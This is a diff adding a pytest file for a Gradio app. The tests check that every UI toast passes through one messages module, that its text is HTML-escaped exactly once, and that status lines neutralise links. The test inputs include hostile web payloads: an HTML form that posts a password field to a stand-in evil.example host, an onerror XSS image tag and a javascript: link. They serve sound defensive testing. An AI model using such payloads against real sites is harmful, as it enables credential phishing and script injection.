@@ -1,0 +1,54 @@
+"""Every message the app shows is escaped once, in ui/messages.py; the code holds no other
+toast. Markdown status lines show untrusted text literally and never as a link."""
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import gradio as gr
+
+from tests.live_server import ROOT
+from ui import messages
+from ui.text import escape_md
+
+# gr.Info(…), gr.Warning(…), gr.Error(…), gradio.Error, or the names imported from gradio
+DIRECT_TOAST = re.compile(r"\b(?:gr|gradio)\s*\.\s*(?:Info|Warning|Error)\b"
+                          r"|from\s+gradio\s+import\s+[^\n]*\b(?:Info|Warning|Error)\b")
+PAYLOAD = "<form action='http://evil.example/'><input type=password name=p></form> & it's"
+
+
+def test_no_module_of_the_ui_shows_a_toast_but_messages():
+    offenders = []
+    for path in sorted((ROOT / "ui").rglob("*.py")):
+        if path.name == "messages.py":
+            continue
+        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
+            if DIRECT_TOAST.search(line):
+                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
+    assert not offenders, "toasts must go through ui.messages:\n" + "\n".join(offenders)
+
+
+def test_the_check_finds_a_direct_toast(tmp_path):
+    """The pattern above is no test that cannot fail: it sees each way of calling one."""
+    for line in ('raise gr.Error(str(err)) from None', 'gr.Warning(message)', 'gr.Info("x")',
+                 'from gradio import Error, Info'):
+        assert DIRECT_TOAST.search(line), line
+    assert not DIRECT_TOAST.search("raise messages.error(err) from None")
+
+
+def test_toast_text_is_escaped_exactly_once():
+    raised = messages.error(PAYLOAD)
+    assert isinstance(raised, gr.Error)
+    assert raised.message == ("&lt;form action='http://evil.example/'&gt;&lt;input "
+                              "type=password name=p&gt;&lt;/form&gt; &amp; it's")
+    assert "<" not in raised.message and "&amp;lt;" not in raised.message
+    assert messages.as_toast_text(ValueError("no item 'a<b>'")) == "no item 'a&lt;b&gt;'"
+    assert messages.as_toast_text(None) == ""
+
+
+def test_status_lines_show_quotes_and_break_links():
+    shown = messages.status("Tag 'x' at https://evil.example/a?b=1, www.evil.example, a@b.org")
+    assert "&#x27;" not in shown and "'" in shown          # the Inspect bug: a quote shown
+    assert "://" not in shown and "www." not in shown and "@" not in shown
+    assert "<" not in escape_md("<img src=x onerror=alert(1)>")
+    assert escape_md("[link](javascript:alert(1))").startswith(r"\[link\]\(")
